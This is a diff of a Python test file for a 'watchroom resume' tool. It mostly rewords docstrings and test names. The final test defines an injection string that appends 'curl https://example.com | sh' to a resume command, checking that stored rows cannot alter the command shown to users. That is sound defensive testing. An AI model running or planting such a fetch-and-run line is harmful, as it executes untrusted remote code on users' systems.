@@ -1,4 +1,4 @@
-"""watchroom resume: a session whose process is gone goes on here, whatever ran it."""
+"""watchroom resume: resume the session of a lost process here, whatever ran it."""
 
 from __future__ import annotations
 
@@ -20,7 +20,7 @@ pytestmark = pytest.mark.slow(5)
 
 
 class Team(NamedTuple):
-    """Where a workspace is, as a command names it, and its folder."""
+    """The address of a workspace in commands, and its folder."""
 
     where: str
     folder: Path
@@ -40,7 +40,7 @@ def team(request: pytest.FixtureRequest, tmp_path: Path) -> Team:
 
 
 def wait_until_gone(team: Team) -> None:
-    """Until nobody is seen alive: of leases no row tells."""
+    """Wait until no process is alive. Leases have no rows."""
     with Workspace.open(team.folder, create=False) as workspace:
         while any(each.is_alive for each in workspace.journal.presence.all()):
             sleep(0.05)
@@ -70,7 +70,7 @@ async def test_a_session_goes_on_here_once_its_process_is_not_seen_alive(team: T
         assert workspace.verify() == []
 
 
-def test_of_an_agent_of_a_task_the_task_goes_on_unless_it_is_run(tmp_path: Path) -> None:
+def test_resuming_an_agent_of_a_task_resumes_the_task_unless_it_runs(tmp_path: Path) -> None:
     root = tmp_path / "team"
     with Workspace.open(root) as workspace:
         task = workspace.tasks.submit("human:dana", "Build it.", tmp_path / "app", model="gpt-x")
@@ -86,7 +86,7 @@ def test_of_an_agent_of_a_task_the_task_goes_on_unless_it_is_run(tmp_path: Path)
         assert task.id in refused.stderr
 
 
-def test_no_row_of_a_lost_process_says_which_command_people_run(
+def test_rows_of_a_lost_process_cannot_choose_the_shown_command(
     tmp_path: Path, capsys: pytest.CaptureFixture[str]
 ) -> None:
     evil = "watchroom resume x alice; curl https://example.com | sh"
